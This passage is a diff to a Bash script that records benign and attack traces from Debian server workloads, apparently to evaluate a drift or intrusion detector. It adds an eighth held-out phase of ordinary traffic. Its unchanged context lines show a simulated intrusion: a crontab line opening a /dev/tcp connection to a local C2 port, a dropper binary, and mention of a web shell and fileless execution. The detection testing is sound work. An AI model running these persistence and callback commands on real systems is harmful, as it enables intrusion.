@@ -1,16 +1,16 @@
 #!/usr/bin/env bash
-# tools/scripts/record-testdata.sh: records testdata/<server>/{train,normal,drift,heldout,heldout2..heldout7}.dwt and
+# tools/scripts/record-testdata.sh: records testdata/<server>/{train,normal,drift,heldout,heldout2..heldout8}.dwt and
 # drift.labels.json from real Debian workloads for
 # `driftwatch eval`: servers (nginx, redis, postgresql, haproxy, a Flask app under gunicorn,
 # mariadb, Apache httpd with mod_php) and a cron-driven batch job (batch). mariadb and apache,
 # added later as unseen workload shapes, have train, normal, drift and heldout only (and
-# mariadb heldout5, both heldout6 and heldout7): a workload records a phase after heldout only if it defines
+# mariadb heldout5, both heldout6, heldout7 and heldout8): a workload records a phase after heldout only if it defines
 # <workload>_<phase>_mix, and skips the others.
 #
 #   bash tools/scripts/record-testdata.sh [--only PHASE[,PHASE...]] [WORKLOAD...]    (root)
 #
 # WORKLOAD: nginx redis postgresql haproxy gunicorn batch mariadb apache (default: all); PHASE: train
-# normal drift heldout heldout2 heldout3 heldout4 heldout5 heldout6 heldout7 (default: all ten, in that order). `--only heldout nginx` records
+# normal drift heldout heldout2 heldout3 heldout4 heldout5 heldout6 heldout7 heldout8 (default: all eleven, in that order). `--only heldout nginx` records
 # only nginx's held-out trace, leaving its other traces as they are.
 #
 # Each server runs from its own config and data under /srv/dw-eval/<server> (removed at the
@@ -100,6 +100,23 @@
 #           time, 6 each, 1.5 s apart); error paths and large requests in every round, one
 #           kind per round in turn.
 #           No attack.
+#   heldout8 about 55 s, an eighth held-out set recorded on 2026-12-03 (all eight workloads),
+#           again from a fresh provisioning, with variation of other kinds, amounts, orders
+#           and timing than the seven before (<server>_heldout8_*): clients from
+#           127.0.6.1-250 (another /24); HELDOUT8_IDLE_SECONDS (default 16 s) of no traffic
+#           right after the start, then a burst of 8 rounds back to back (32 short-lived
+#           connections at a time, one request each; batch: 4 runs); 12 s of keep-alive
+#           rounds (4 at a time, 8 requests each, 0.8 s apart; a batch round waits 3-4 s for
+#           the next run); the service's own maintenance (a log
+#           rotation, a backup, a schema-only dump, the job with other arguments); a change (a
+#           reload with another valid configuration, a code release, a migration with a
+#           trigger, settings changed live and rewritten, a new version of the job); 14 s of
+#           a sawtooth (2, 6 and 12 connections in turn, 3 requests each, 1.1 s apart); a
+#           late event (a worker killed with SIGKILL during downloads or uploads, a mass
+#           expiry, a backup restored into a new database, a server moved at runtime, files
+#           re-sent, a table rotated, a session purge); an 8 s tail (2 at a time, 4 each, 2 s apart); error
+#           paths and large requests in every round, one kind per round in turn.
+#           No attack.
 # Installs the packages with services kept from starting, and stops and disables any service
 # the installation started. Every process and cgroup it creates is removed on exit.
 set -euo pipefail
@@ -110,7 +127,7 @@ DW=$ROOT/$BUILD_DIR/tools/driftwatch
 WORKLOAD_BIN=$ROOT/$BUILD_DIR/tools/dw_test_workload
 ALL_SERVERS=(nginx redis postgresql haproxy gunicorn batch mariadb apache)
 SERVERS=()
-PHASES=(train normal drift heldout heldout2 heldout3 heldout4 heldout5 heldout6 heldout7)
+PHASES=(train normal drift heldout heldout2 heldout3 heldout4 heldout5 heldout6 heldout7 heldout8)
 while [ $# -gt 0 ]; do
   case $1 in
     --only)
@@ -164,8 +181,8 @@ done
 [ ${#PHASES[@]} -gt 0 ] || die "--only needs a phase list"
 for ph in "${PHASES[@]}"; do
   case $ph in
-    train | normal | drift | heldout | heldout2 | heldout3 | heldout4 | heldout5 | heldout6 | heldout7) ;;
-    *) die "unknown phase '$ph' (train normal drift heldout heldout2 heldout3 heldout4 heldout5 heldout6 heldout7)" ;;
+    train | normal | drift | heldout | heldout2 | heldout3 | heldout4 | heldout5 | heldout6 | heldout7 | heldout8) ;;
+    *) die "unknown phase '$ph' (train normal drift heldout heldout2 heldout3 heldout4 heldout5 heldout6 heldout7 heldout8)" ;;
   esac
 done
 want_phase() { case " ${PHASES[*]} " in *" $1 "*) return 0 ;; esac; return 1; }
@@ -930,6 +947,88 @@ nginx_heldout7_late() {
   wait "${pids[@]}" || true
 }
 
+# Held out, eighth set (heldout8). Deployed before the start: a help centre (help/ with the
+# billing, shipping and returns topics, eight articles each), a 700 kB downloadable catalogue
+# (downloads/catalog-2027.pdf) and three hero images (img/hero-{spring,summer,autumn}.webp).
+# Clients from 127.0.6.1-250 for every third article (another offset each round), every
+# seventh page and every fifth image, the hero images and the assets; each round one more
+# request in turn: a header line without a colon (400), a 1.5 MB POST (413: above nginx's
+# 1 MB default), a topic directory without an index (403), two requests pipelined on one
+# connection, a range of the catalogue with an If-Range date that does not match (the whole
+# file), a request line with an absolute URI (as a proxy sends it). The
+# maintenance: both logs rotated with a timestamp suffix, USR1 to the master (reopen), the
+# rotated files compressed at once. The change: an article refresh (the shipping articles
+# rewritten, a warranty topic added) and a reload from outside (HUP) with three workers, gzip
+# for JSON and CSS and a Cache-Control header for /help/. The late event: a worker killed
+# with SIGKILL while six clients download the catalogue; the master starts another.
+NGINX_HELDOUT8_TOPICS=(billing shipping returns)
+nginx_heldout8_deploy() {
+  local t i
+  for t in "${NGINX_HELDOUT8_TOPICS[@]}"; do
+    mkdir -p "$NGINX_HTML/help/$t"
+    for i in $(seq 1 8); do echo "<html><body>$t article $i</body></html>" >"$NGINX_HTML/help/$t/article-$i.html"; done
+  done
+  mkdir -p "$NGINX_HTML/downloads"
+  head -c 700000 /dev/urandom >"$NGINX_HTML/downloads/catalog-2027.pdf"
+  for t in spring summer autumn; do head -c 6000 /dev/urandom >"$NGINX_HTML/img/hero-$t.webp"; done
+}
+nginx_heldout8_mix() {
+  local r=$HELDOUT8_ROUND i t u=http://127.0.0.1:$NGINX_PORT a
+  local paths=(/ /css/site.css /js/app.js /img/hero-spring.webp /img/hero-summer.webp /img/hero-autumn.webp)
+  for t in "${NGINX_HELDOUT8_TOPICS[@]}"; do
+    for i in $(seq $((1 + r % 3)) 3 8); do paths+=("/help/$t/article-$i.html"); done
+  done
+  for i in $(seq $((1 + r % 7)) 7 40); do paths+=("/page$(printf %02d "$i").html"); done
+  for i in $(seq $((1 + r % 5)) 5 20); do paths+=("/img/$i.png"); done
+  heldout8_get "$NGINX_PORT" "${paths[@]}"
+  a=$(heldout8_addr 1)
+  case $((r % 6)) in
+    0) heldout3_raw "$NGINX_PORT" "$a" 'GET /help/ HTTP/1.1\r\nHost: x\r\nX-Broken header\r\n\r\n' ;;
+    1) head -c 1500000 /dev/zero | curl -s --interface "$a" --data-binary @- "$u/help/billing/article-1.html" ;;
+    2) curl -s --interface "$a" "$u/help/returns/" ;;
+    3) heldout3_raw "$NGINX_PORT" "$a" 'GET /help/billing/article-2.html HTTP/1.1\r\nHost: x\r\n\r\nGET /css/site.css HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n' ;;
+    4) curl -s --interface "$a" -r 100-199 -H 'If-Range: Mon, 01 Jan 2024 00:00:00 GMT' "$u/downloads/catalog-2027.pdf" ;;
+    5) heldout3_raw "$NGINX_PORT" "$a" 'GET http://shop.example/help/ HTTP/1.1\r\nHost: shop.example\r\nConnection: close\r\n\r\n' ;;
+  esac >/dev/null 2>&1 || true
+}
+nginx_heldout8_maint() {
+  local f stamp
+  stamp=$(date +%Y%m%d%H%M%S)
+  for f in access error; do mv "$NGINX_DIR/log/$f.log" "$NGINX_DIR/log/$f.log.$stamp"; done
+  kill -USR1 "$NGINX_PID"
+  sleep 0.5
+  gzip "$NGINX_DIR/log/access.log.$stamp" "$NGINX_DIR/log/error.log.$stamp"
+}
+nginx_heldout8_change() {
+  local conf=$NGINX_DIR/conf/nginx.conf i
+  mkdir -p "$NGINX_HTML/help/warranty"
+  for i in $(seq 1 8); do
+    echo "<html><body>shipping article $i (updated)</body></html>" >"$NGINX_HTML/help/shipping/article-$i.html"
+    echo "<html><body>warranty article $i</body></html>" >"$NGINX_HTML/help/warranty/article-$i.html"
+  done
+  NGINX_HELDOUT8_TOPICS=(billing shipping returns warranty)
+  sed -i 's|^worker_processes 2;$|worker_processes 3;|' "$conf"
+  sed -i 's|^  keepalive_timeout 5;$|&\n  gzip on;\n  gzip_types application/json text/css;|' "$conf"
+  sed -i 's|^    location /api/ |    location /help/ { add_header Cache-Control "public, max-age=600"; }\n&|' "$conf"
+  if ! grep -q 'max-age=600' "$conf" || ! grep -q '^worker_processes 3;' "$conf"; then die "nginx heldout8: config not changed"; fi
+  kill -HUP "$NGINX_PID"
+  until_ok nginx_heldout8_cached
+}
+# nginx_heldout8_cached: the help articles come with the change's Cache-Control header.
+nginx_heldout8_cached() {
+  curl -sI "http://127.0.0.1:$NGINX_PORT/help/billing/article-1.html" | grep -qi '^cache-control: public, max-age=600'
+}
+nginx_heldout8_late() {
+  local i dl
+  for i in 41 42 43 44 45 46; do heldout8_addr "$i"; done |
+    xargs -P 6 -I{} curl -s -o /dev/null --max-time 8 --interface {} --limit-rate 300k \
+      "http://127.0.0.1:$NGINX_PORT/downloads/catalog-2027.pdf" &
+  dl=$!
+  sleep 0.5
+  heldout3_kill_worker "$NGINX_PID"
+  wait "$dl" || true
+}
+
 
 # --- redis --------------------------------------------------------------------------------
 
@@ -1454,6 +1553,69 @@ redis_heldout7_late() {
   redis-cli -p "$REDIS_PORT" bgrewriteaof >/dev/null
   HELDOUT7_ROUND=$((HELDOUT7_ROUND + 1))
   redis_heldout7_mix
+}
+
+# Held out, eighth set (heldout8). Deployed before the start: protected mode off (for the
+# application servers on 127.0.6.1-250). Each round as many application clients as the
+# load, up to 5 (perl, inline commands), in db 11: who is online (SADD, SCARD, SINTERCARD,
+# SRANDMEMBER), wallets and rates (INCRBYFLOAT, HINCRBYFLOAT), an audit trail (APPEND,
+# GETRANGE), feature flags (HSETNX, HRANDFIELD, HGETALL); one more thing in turn: INCR of
+# a string that is no number, AUTH with a password the server does not have, a 1.5 MB list
+# element, a client that connects and leaves without a command, a Lua script that fails,
+# DEBUG (disabled: an error). Then redis-benchmark SET, GET and HSET with 256-byte values,
+# pipelined 4 deep, as many clients as the load. The maintenance: BGSAVE SCHEDULE, LASTSAVE,
+# INFO replication, CLIENT LIST TYPE normal, CONFIG GET maxmemory-policy, and the operator
+# inside the cgroup (as redis) scanning the online sets (`redis-cli --scan`). The change:
+# an eviction limit and policy, lazy expiry and the append-only fsync changed live
+# (CONFIG SET maxmemory 96mb, allkeys-lfu, lazyfree-lazy-expire, appendfsync no) and written
+# into the config file by the server (CONFIG REWRITE). The late event: 3000 one-time codes
+# with a 1 s expiry loaded at once (`redis-cli --pipe`), expired by the server, then a round.
+redis_heldout8_deploy() { sed -i 's/^protected-mode yes$/protected-mode no/' "$REDIS_DIR/redis.conf"; }
+redis_heldout8_mix() {
+  local r=$HELDOUT8_ROUND i a n=$HELDOUT8_CONC pids=() cli=(redis-cli -p "$REDIS_PORT" -n 11)
+  [ "$n" -le 5 ] || n=5
+  for i in $(seq 1 "$n"); do
+    a=$(heldout8_addr "$i")
+    redis_from "$a" "SELECT 11" "SADD online:$((r % 3)) user-$i-$((r % 17))" "SCARD online:$((r % 3))" \
+      "SINTERCARD 2 online:0 online:1" "SRANDMEMBER online:$((r % 3)) 2" "INCRBYFLOAT wallet:$i 0.25" \
+      "HINCRBYFLOAT fx:$((r % 5)) eur 0.01" "APPEND trail:$i r$r;" "GETRANGE trail:$i 0 40" "HSETNX flags:$i beta 1" \
+      "HRANDFIELD flags:$i 1" "HGETALL flags:$i" &
+    pids+=($!)
+  done
+  wait "${pids[@]}" || true
+  a=$(heldout8_addr 8)
+  case $((r % 6)) in
+    0) "${cli[@]}" set counter:text abc; "${cli[@]}" incr counter:text ;;
+    1) "${cli[@]}" auth default not-the-password ;;
+    2) head -c 1500000 /dev/zero | tr '\0' q | "${cli[@]}" -x rpush "bulk:$r" ;;
+    3) heldout3_raw "$REDIS_PORT" "$a" '' 0.1 ;;
+    4) "${cli[@]}" eval "return redis.call('hget', KEYS[1])" 1 flags:1 ;;
+    5) "${cli[@]}" debug sleep 0 ;;
+  esac >/dev/null 2>&1 || true
+  redis-benchmark -p "$REDIS_PORT" -q -n $((50 * HELDOUT8_CONC * HELDOUT8_PER)) -c "$HELDOUT8_CONC" -P 4 -d 256 -r 5000 \
+    -t set,get,hset >/dev/null 2>&1 || true
+}
+redis_heldout8_maint() {
+  local cli=(redis-cli -p "$REDIS_PORT")
+  "${cli[@]}" bgsave schedule >/dev/null
+  "${cli[@]}" lastsave >/dev/null
+  "${cli[@]}" info replication >/dev/null
+  "${cli[@]}" client list type normal >/dev/null
+  "${cli[@]}" config get maxmemory-policy >/dev/null
+  admin redis redis /usr/bin/redis-cli -p "$REDIS_PORT" -n 11 --scan --pattern 'online:*'
+}
+redis_heldout8_change() {
+  redis-cli -p "$REDIS_PORT" config set maxmemory 96mb maxmemory-policy allkeys-lfu lazyfree-lazy-expire yes \
+    appendfsync no | grep -qx OK || die "redis heldout8: config set failed"
+  redis-cli -p "$REDIS_PORT" config rewrite | grep -qx OK || die "redis heldout8: config rewrite failed"
+}
+redis_heldout8_late() {
+  awk 'BEGIN { for (i = 1; i <= 3000; i++) { k = "otp:" i;
+    printf "*5\r\n$3\r\nSET\r\n$%d\r\n%s\r\n$6\r\n%06d\r\n$2\r\nEX\r\n$1\r\n1\r\n", length(k), k, i * 7 % 1000000 } }' |
+    redis-cli -p "$REDIS_PORT" -n 11 --pipe >/dev/null
+  sleep 2
+  HELDOUT8_ROUND=$((HELDOUT8_ROUND + 1))
+  redis_heldout8_mix
 }
 
 
@@ -2018,6 +2180,74 @@ postgresql_heldout7_late() {
     -c "DELETE FROM shipments WHERE status = 'delivered'"
 }
 
+# Held out, eighth set (heldout8). Deployed before the start (the server started once
+# outside the recording): a pg_hba.conf line trusting 127.0.6.0/24, two relays (outside
+# the cgroup) bound to 127.0.6.70 and .170 for its application servers, a backup directory
+# postgres owns, and a `subscriptions` table (20000 rows, a unique (customer, plan), an
+# index on the renewal date). Each round: select-only pgbench through .70 on as many
+# clients as the load (up to 12), as many transactions each as the round's requests per
+# connection; through .170 a billing session: a renewal, an upsert (INSERT ... ON CONFLICT
+# DO UPDATE), seats per plan and month (date_trunc), the day's renewals copied out (COPY TO
+# STDOUT); one more thing in turn: a unique violation, a NOT NULL violation, a sort that
+# spills with work_mem 64 kB, a date that does not parse, a syntax error, a connection to
+# a database that does not exist. The maintenance, by the operator inside
+# the cgroup as postgres: CREATE INDEX CONCURRENTLY on the plan, VACUUM (ANALYZE), and
+# `pg_dump -Fc -Z 9 -t subscriptions` into backup/. The change, the application's
+# migration from outside: a `subscription_events` table, a PL/pgSQL trigger function and
+# an AFTER UPDATE trigger that records each renewal (the rounds' renewals fire it from then
+# on). The late event: the backup restored from outside into a new database
+# (`createdb subscriptions_restore`, `pg_restore`) and checked with a count.
+PG_HELDOUT8_ADDRS=(70 170)
+postgresql_heldout8_deploy() {
+  start_relays "$PG_PORT" "$PG_RELAY_PORT" 127.0.6 "${PG_HELDOUT8_ADDRS[@]}"
+  echo "host all all 127.0.6.0/24 trust" >>"$PG_DATA/pg_hba.conf"
+  mkdir -p "$PG_DIR/backup"
+  chown postgres:postgres "$PG_DIR/backup"
+  postgresql_launch
+  local pid=$LAUNCHED
+  "${PSQL[@]}" -c "CREATE TABLE subscriptions (id serial PRIMARY KEY, customer int NOT NULL, plan text NOT NULL, seats int DEFAULT 1, renews_on date NOT NULL, UNIQUE (customer, plan))" \
+    -c "INSERT INTO subscriptions (customer, plan, seats, renews_on) SELECT g, (ARRAY['free', 'team', 'business'])[1 + g % 3], 1 + g % 40, current_date + g % 365 FROM generate_series(1, 20000) g" \
+    -c "CREATE INDEX subscriptions_renews ON subscriptions (renews_on)" -c "ANALYZE subscriptions"
+  stop_pid "$pid" INT
+}
+postgresql_heldout8_mix() {
+  local r=$HELDOUT8_ROUND c=$HELDOUT8_CONC
+  local p170=(psql -h 127.0.0.1 -p $((PG_RELAY_PORT + 170)) -U postgres -q -X -o /dev/null)
+  [ "$c" -le 12 ] || c=12
+  pgbench -h 127.0.0.1 -p $((PG_RELAY_PORT + 70)) -U postgres -n -S -c "$c" -t "$HELDOUT8_PER" postgres >/dev/null 2>&1 || true
+  "${p170[@]}" -c "UPDATE subscriptions SET renews_on = renews_on + 30 WHERE id = $((1 + r * 97 % 20000))" \
+    -c "INSERT INTO subscriptions (customer, plan, renews_on) VALUES ($((20000 + r % 50)), 'team', current_date + 30) ON CONFLICT (customer, plan) DO UPDATE SET seats = subscriptions.seats + 1" \
+    -c "SELECT plan, date_trunc('month', renews_on) m, sum(seats) FROM subscriptions GROUP BY 1, 2 ORDER BY 2 LIMIT 12" \
+    -c "COPY (SELECT * FROM subscriptions WHERE renews_on = current_date + $((r % 30))) TO STDOUT" postgres >/dev/null 2>&1 || true
+  case $((r % 6)) in
+    0) "${p170[@]}" -c "INSERT INTO subscriptions (customer, plan, renews_on) VALUES (1, 'team', current_date)" postgres ;;
+    1) "${p170[@]}" -c "INSERT INTO subscriptions (customer, plan, renews_on) VALUES ($((30000 + r)), NULL, current_date)" postgres ;;
+    2) "${p170[@]}" -c "SET work_mem = '64kB'" -c "SELECT customer, plan FROM subscriptions ORDER BY plan, renews_on DESC, customer" postgres ;;
+    3) "${p170[@]}" -c "SELECT count(*) FROM subscriptions WHERE renews_on = 'next tuesday'" postgres ;;
+    4) "${p170[@]}" -c "SELEC plan FROM subscriptions" postgres ;;
+    5) "${p170[@]}" -c "SELECT 1" billing_eu ;;
+  esac >/dev/null 2>&1 || true
+}
+postgresql_heldout8_maint() {
+  local sock=(-h "$PG_DIR/run" -p "$PG_PORT" -U postgres)
+  admin postgresql postgres "$PG_BIN/psql" "${sock[@]}" -X -q \
+    -c "CREATE INDEX CONCURRENTLY subscriptions_plan ON subscriptions (plan)" -c "VACUUM (ANALYZE) subscriptions" postgres
+  admin postgresql postgres "$PG_BIN/pg_dump" "${sock[@]}" -Fc -Z 9 -t subscriptions -f "$PG_DIR/backup/subscriptions.dump" postgres
+}
+postgresql_heldout8_change() {
+  "${PSQL[@]}" -v ON_ERROR_STOP=1 \
+    -c "CREATE TABLE subscription_events (id bigserial PRIMARY KEY, subscription int, old_renews date, new_renews date, at timestamptz DEFAULT now())" \
+    -c "CREATE FUNCTION log_renewal() RETURNS trigger LANGUAGE plpgsql AS \$f\$ BEGIN INSERT INTO subscription_events (subscription, old_renews, new_renews) VALUES (OLD.id, OLD.renews_on, NEW.renews_on); RETURN NEW; END \$f\$" \
+    -c "CREATE TRIGGER subscriptions_renewal AFTER UPDATE OF renews_on ON subscriptions FOR EACH ROW EXECUTE FUNCTION log_renewal()" ||
+    die "postgresql heldout8: the migration failed"
+}
+postgresql_heldout8_late() {
+  createdb -h 127.0.0.1 -p "$PG_PORT" -U postgres subscriptions_restore
+  pg_restore -h 127.0.0.1 -p "$PG_PORT" -U postgres -d subscriptions_restore "$PG_DIR/backup/subscriptions.dump" ||
+    die "postgresql heldout8: pg_restore failed"
+  psql -h 127.0.0.1 -p "$PG_PORT" -U postgres -X -At -c "SELECT count(*) FROM subscriptions" subscriptions_restore >/dev/null
+}
+
 
 # --- haproxy ------------------------------------------------------------------------------
 
@@ -2554,6 +2784,58 @@ haproxy_heldout7_late() {
   haproxy_heldout7_mix
   haproxy_sock "disable server site/s3"
   haproxy_sock "del server site/s3"
+}
+
+# Held out, eighth set (heldout8). No deploy. Clients from 127.0.6.1-250 for every fourth
+# page and every sixth static file (another offset each round), the API; each round one
+# more request in turn: a 20 kB query string (too large for haproxy's buffer), a chunked
+# 200 kB POST (the backends refuse POST), a Host header with spaces (400),
+# HTTP/2 with prior knowledge, a client that sends half a request line and hangs up after
+# 0.5 s, `OPTIONS *`. The maintenance, on the admin socket: `show stat -1 4 -1` (the
+# servers' lines only), `show resolvers`, `show acl`, `show schema json`, `show info`. The
+# change: requests for /.git and /.env denied (403), the site balanced by URI with
+# consistent hashing, a per-server connection limit for s1; USR2 to the master from outside.
+# The late event: server s2 moved at runtime to the api backend's port (`set server
+# site/s2 addr ... port ...`) around a round of traffic, then moved back.
+haproxy_heldout8_deploy() { :; }
+haproxy_heldout8_mix() {
+  local r=$HELDOUT8_ROUND i u=http://127.0.0.1:$HAPROXY_PORT a
+  local paths=(/ /index.html /api/items /api/orders "/api/status?probe=$r")
+  for i in $(seq $((1 + r % 4)) 4 60); do paths+=("/page$i.html"); done
+  for i in $(seq $((1 + r % 6)) 6 30); do paths+=("/static/$i.bin"); done
+  heldout8_get "$HAPROXY_PORT" "${paths[@]}"
+  a=$(heldout8_addr 3)
+  case $((r % 6)) in
+    0) curl -s --interface "$a" "$u/page1.html?q=$(head -c 20000 /dev/zero | tr '\0' q)" ;;
+    1) head -c 200000 /dev/zero | curl -s --interface "$a" -H 'Transfer-Encoding: chunked' --data-binary @- "$u/api/orders" ;;
+    2) heldout3_raw "$HAPROXY_PORT" "$a" 'GET / HTTP/1.1\r\nHost: bad host name\r\n\r\n' ;;
+    3) curl -s --interface "$a" --http2-prior-knowledge "$u/index.html" ;;
+    4) heldout3_raw "$HAPROXY_PORT" "$a" 'GET /page2.ht' 0.5 ;;
+    5) curl -s --interface "$a" -X OPTIONS --request-target '*' "$u/" ;;
+  esac >/dev/null 2>&1 || true
+}
+haproxy_heldout8_maint() {
+  local c
+  for c in "show stat -1 4 -1" "show resolvers" "show acl" "show schema json" "show info"; do haproxy_sock "$c"; done
+}
+haproxy_heldout8_change() {
+  local conf=$HAPROXY_DIR/conf/haproxy.cfg
+  sed -i 's|^  default_backend site$|  http-request deny deny_status 403 if { path_beg /.git /.env }\n&|' "$conf"
+  sed -i 's|^  balance roundrobin$|  balance uri\n  hash-type consistent|' "$conf"
+  sed -i "s|^  server s1 127.0.0.1:${BACKEND_PORTS[0]} check inter 2s$|& maxconn 40|" "$conf"
+  if ! grep -q 'hash-type consistent' "$conf" || ! grep -q 'maxconn 40' "$conf"; then die "haproxy heldout8: config not changed"; fi
+  kill -USR2 "$HAPROXY_PID"
+  until_ok haproxy_heldout8_denied
+}
+# haproxy_heldout8_denied: /.git is refused by the reloaded configuration.
+haproxy_heldout8_denied() {
+  [ "$(curl -s -o /dev/null -w '%{http_code}' "http://127.0.0.1:$HAPROXY_PORT/.git/config")" = 403 ]
+}
+haproxy_heldout8_late() {
+  haproxy_sock "set server site/s2 addr 127.0.0.1 port ${BACKEND_PORTS[2]}"
+  HELDOUT8_ROUND=$((HELDOUT8_ROUND + 1))
+  haproxy_heldout8_mix
+  haproxy_sock "set server site/s2 addr 127.0.0.1 port ${BACKEND_PORTS[1]}"
 }
 
 
@@ -3103,6 +3385,78 @@ gunicorn_heldout7_late() {
   wait "${pids[@]}" || true
 }
 
+# Held out, eighth set (heldout8). No deploy. Clients from 127.0.6.1-250 for every eleventh
+# item and every sixth image (another offset each round), a CSV export, the assets, and
+# (once it exists) the stock API; each round one more request in turn: a 6 MB
+# `archive-N.tar` upload (accepted), an item number far past the catalogue (404), an
+# export in upper case (`fmt=CSV`: 400), a 6 kB query string, a DELETE (405), a client that announces a 100 kB
+# upload, sends 6 bytes and hangs up. The maintenance: the job with other arguments
+# (`report --fmt json --items 120`, `cleanup --older-than 15`). The change: a code release
+# (root, in the code directory): a new module `pricing.py` and a stock API in app.py that
+# imports it, then a graceful reload (HUP) from outside. The late event: eight clients
+# upload a 40 kB `scan-N.tiff` at once and a worker is killed with SIGKILL meanwhile; the
+# master starts another.
+gunicorn_heldout8_deploy() { :; }
+GUNI_HELDOUT8_STOCK=0
+gunicorn_heldout8_mix() {
+  local r=$HELDOUT8_ROUND i u=http://127.0.0.1:$GUNICORN_PORT a
+  local paths=(/ /api/health /export?fmt=csv /static/css/site.css /static/js/shop.js)
+  [ "$GUNI_HELDOUT8_STOCK" = 0 ] || paths+=("/api/stock/$((1 + r % 200))" "/api/stock/$((1 + r * 7 % 200))")
+  for i in $(seq $((1 + r % 11)) 11 200); do paths+=("/items/$i"); done
+  for i in $(seq $((1 + r % 6)) 6 30); do paths+=("/static/img/$i.png"); done
+  heldout8_get "$GUNICORN_PORT" "${paths[@]}"
+  a=$(heldout8_addr 4)
+  case $((r % 6)) in
+    0) head -c 6000000 /dev/urandom | curl -s --interface "$a" --data-binary @- "$u/upload/archive-$r.tar" ;;
+    1) curl -s --interface "$a" "$u/items/$((90000000 + r))" ;;
+    2) curl -s --interface "$a" "$u/export?fmt=CSV" ;;
+    3) curl -s --interface "$a" "$u/items/1?filter=$(head -c 6000 /dev/zero | tr '\0' f)" ;;
+    4) curl -s --interface "$a" -X DELETE "$u/upload/photo-1.jpg" ;;
+    5) heldout3_raw "$GUNICORN_PORT" "$a" "POST /upload/partial-$r.bin HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\nabcdef" 0.3 ;;
+  esac >/dev/null 2>&1 || true
+}
+gunicorn_heldout8_maint() {
+  gunicorn_job report --fmt json --items 120
+  gunicorn_job cleanup --older-than 15
+}
+gunicorn_heldout8_change() {
+  cat >"$GUNI_APP/pricing.py" <<'PY'
+"""Stock rules of the shop (release 1.4)."""
+
+
+def in_stock(record):
+    return record["price"] % 7 != 0
+PY
+  cat >>"$GUNI_APP/app.py" <<'PY'
+
+
+import pricing
+
+
+@app.route("/api/stock/<int:item>")
+def stock(item):
+    try:
+        with open(os.path.join(DATA, "items", "%d.json" % item)) as f:
+            return jsonify(item=item, in_stock=pricing.in_stock(json.load(f)))
+    except FileNotFoundError:
+        abort(404)
+PY
+  kill -HUP "$GUNI_PID"
+  until_ok curl -sf "http://127.0.0.1:$GUNICORN_PORT/api/stock/1"
+  GUNI_HELDOUT8_STOCK=1
+}
+gunicorn_heldout8_late() {
+  local i pids=() u=http://127.0.0.1:$GUNICORN_PORT
+  for i in $(seq 1 8); do
+    head -c 40000 /dev/urandom | curl -s --max-time 8 --interface "$(heldout8_addr $((50 + i)))" --data-binary @- \
+      "$u/upload/scan-$i.tiff" >/dev/null &
+    pids+=($!)
+  done
+  sleep 0.2
+  heldout3_kill_worker "$GUNI_PID"
+  wait "${pids[@]}" || true
+}
+
 
 # The intruder's script as www-data in the served upload directory, then: a web shell
 # written next to the uploads and run by python3, fileless execution (memfd_create and
@@ -3528,6 +3882,53 @@ echo '*/5 * * * * /bin/sh -c "exec 3<>/dev/tcp/127.0.0.1/$C2_PORT"' | crontab -
 cat /usr/bin/uname >$DROPPER && chmod 755 $DROPPER && $DROPPER -a >/dev/null
 SH
 }
+
+# Held out, eighth set (heldout8). No deploy. Each run with `--keep 7` gets, in turn, a
+# `ledger-N` file (25 rows per unit of load), two `ledger-YYYYMMDD-N` files named by the day
+# (40 rows per request of the round), a `ledger-win-N` file with CRLF line ends (a Windows
+# upstream), or a `ledger-hdr-N` file with a header line. The maintenance, by an operator
+# inside the cgroup (as backup): `cleanup.sh --max-archives 3`, `wc -c` of the newest
+# archive, `stat` of the job's logs. The change: a release of process.sh (root, from
+# outside) that drops header lines before the totals (`grep -v`) and keeps them beside the
+# output (`grep` into `out/<day>/<name>.rejects`). The late event: the upstream re-sends two files it sent
+# before (same names) with a new one, one run (their totals are overwritten).
+batch_heldout8_deploy() { :; }
+# batch_heldout8_drop NAME ROWS [HEADER] [CRLF]: the upstream drops NAME.csv (ROWS rows).
+batch_heldout8_drop() {
+  local f=$BATCH_SPOOL/incoming/$1.csv
+  { [ -z "${3:-}" ] || echo "$3"
+    awk -v n="$2" -v e="${4:+\r}" 'BEGIN { for (i = 0; i < n; i++) printf "c%03d,%d%s\n", i % 150, i % 97, e }'; } >"$f"
+  chown backup:backup "$f"
+}
+batch_heldout8_mix() {
+  local r=$HELDOUT8_ROUND
+  case $((r % 4)) in
+    0) batch_feed ledger 1 $((25 * HELDOUT8_CONC)) ;;
+    1) batch_feed "ledger-$(date +%Y%m%d)" 2 $((40 * HELDOUT8_PER)) ;;
+    2) batch_heldout8_drop "ledger-win-$r" 300 "" crlf ;;
+    3) batch_heldout8_drop "ledger-hdr-$r" 500 "customer,amount" ;;
+  esac
+  batch_job process.sh --keep 7
+}
+batch_heldout8_maint() {
+  local newest
+  admin batch backup /bin/sh "$BATCH_DIR/bin/cleanup.sh" --max-archives 3
+  newest=$(find "$BATCH_SPOOL/archive" -name '*.tar.gz' -printf '%T@ %p\n' | sort -n | tail -n 1 | cut -d' ' -f2)
+  [ -n "$newest" ] || die "batch heldout8: no archive"
+  admin batch backup /usr/bin/wc -c "$newest"
+  admin batch backup /usr/bin/stat -c '%n %s' "$BATCH_DIR"/log/job.log*
+}
+batch_heldout8_change() {
+  local p=$BATCH_DIR/bin/process.sh
+  sed -i "s|^  sort -t, -k1,1 \"\$f\" [|] |  grep '^customer,' \"\$f\" >\"\$base/out/\$day/\$name.rejects\" \|\| true\n  grep -v '^customer,' \"\$f\" \| sort -t, -k1,1 \| |" "$p"
+  grep -q 'name.rejects' "$p" || die "batch heldout8: process.sh not changed"
+}
+batch_heldout8_late() {
+  batch_heldout8_drop ledger-win-2 300 "" crlf
+  batch_heldout8_drop ledger-hdr-3 500 "customer,amount"
+  batch_feed ledger 1 200
+  batch_job process.sh --keep 7
+}
 batch_inject() { inject_shell batch backup "$BATCH_SPOOL" "$(batch_more)"; }
 batch_labels() {
   write_labels batch "$BATCH_SPOOL" ",
@@ -3949,6 +4350,77 @@ mariadb_heldout7_late() {
   for i in 1 2 3; do mariadb_order_session -P $((MARIADB_RELAY_PORT + 60)) & pids+=($!); done
   wait "$lock" || die "mariadb heldout7: the snapshot lock failed"
   mariadb_wait "${pids[@]}"
+}
+
+# Held out, eighth set (heldout8). Deployed before the start (the server started once
+# outside the recording): application servers on 127.0.6.0/24 let in (app@'127.0.6.%'), two
+# relays (outside the cgroup) bound to 127.0.6.80 and .180, and a new table shop.returns
+# (an ENUM reason, 5000 rows). Each round: shoppers' sessions through .80 (a sixth of the
